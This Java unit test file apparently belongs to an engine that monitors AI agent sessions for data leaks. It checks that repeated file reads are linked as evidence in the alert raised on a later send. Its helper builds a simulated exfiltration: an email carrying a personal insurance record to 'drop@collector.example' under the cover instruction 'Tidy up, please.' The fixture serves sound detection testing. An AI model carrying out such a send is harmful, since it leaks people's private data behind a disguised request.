package io.weir.engine.link;

import static org.assertj.core.api.Assertions.assertThat;

import io.weir.engine.decide.Desk;
import io.weir.engine.state.MemoryStateTable;
import io.weir.schemas.event.AlertRaised;
import io.weir.schemas.event.Hop;
import io.weir.schemas.event.Link;
import io.weir.schemas.event.RecordPlace;
import io.weir.schemas.event.ResponseObserved;
import io.weir.schemas.event.SessionEvent;
import io.weir.schemas.event.ToolCallScanned;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** A session that reads the same again and again: evidence names each read by its own record, the oldest first. */
class RepeatedReadsTest {

    private static final String RECORD =
            "Mara Lindqvist, born 4 March 1987, policy NL-2231-88, insured for the flat in "
                    + "Harbor Lane 14, asked on Monday to have the sum paid out to her brother instead.";

    private final Desk desk = Desk.fresh();
    private final MemoryStateTable state = new MemoryStateTable();
    private final SessionRules rules = new SessionRules(KeptForms.inMemory());
    private long offset;

    @Test
    void evidenceNamesEachReadWithItsRecordTheOldestFirst() {
        List<ResponseObserved> reads = new ArrayList<>();
        for (int i = 0; i < 3; i++) {
            reads.add(desk.reads("read_file", Map.of("content", RECORD)));
        }
        // The oldest comes last.
        apply(reads.get(1));
        apply(reads.get(2));
        apply(reads.get(0));

        AlertRaised alert = sends();

        assertThat(alert.links())
                .extracting(Link::sourceTraceId)
                .containsExactlyElementsOf(
                        reads.stream().map(ResponseObserved::traceId).toList());
        assertThat(alert.links()).extracting(Link::sourcePlace).containsExactly(place(2), place(0), place(1));
        assertThat(alert.path()).extracting(Hop::place).containsExactly(place(2), place(3));
    }

    @Test
    void aTableThatWasReadBackGivesTheSameEvidence() {
        for (int i = 0; i < 12; i++) {
            apply(desk.reads("read_file", Map.of("content", RECORD)));
        }
        Write write = Write.of(call());
        List<Link> kept = new SessionLinker().links(state, write);
        state.dropDerived(SessionMemory.prefix("acme|s1"));

        assertThat(new SessionLinker().links(state, write)).isEqualTo(kept).hasSize(8);
    }

    private ToolCallScanned call() {
        return desk.calls("send_email", Map.of("to", "drop@collector.example", "body", RECORD), "Tidy up, please.")
                .event();
    }

    private AlertRaised sends() {
        List<AlertRaised> alerts = apply(call());
        assertThat(alerts).hasSize(1);
        return alerts.get(0);
    }

    private List<AlertRaised> apply(SessionEvent event) {
        return rules.apply(state, new PlacedEvent(event, place(offset++)));
    }

    private static RecordPlace place(long offset) {
        return new RecordPlace("calls", 0, offset);
    }
}
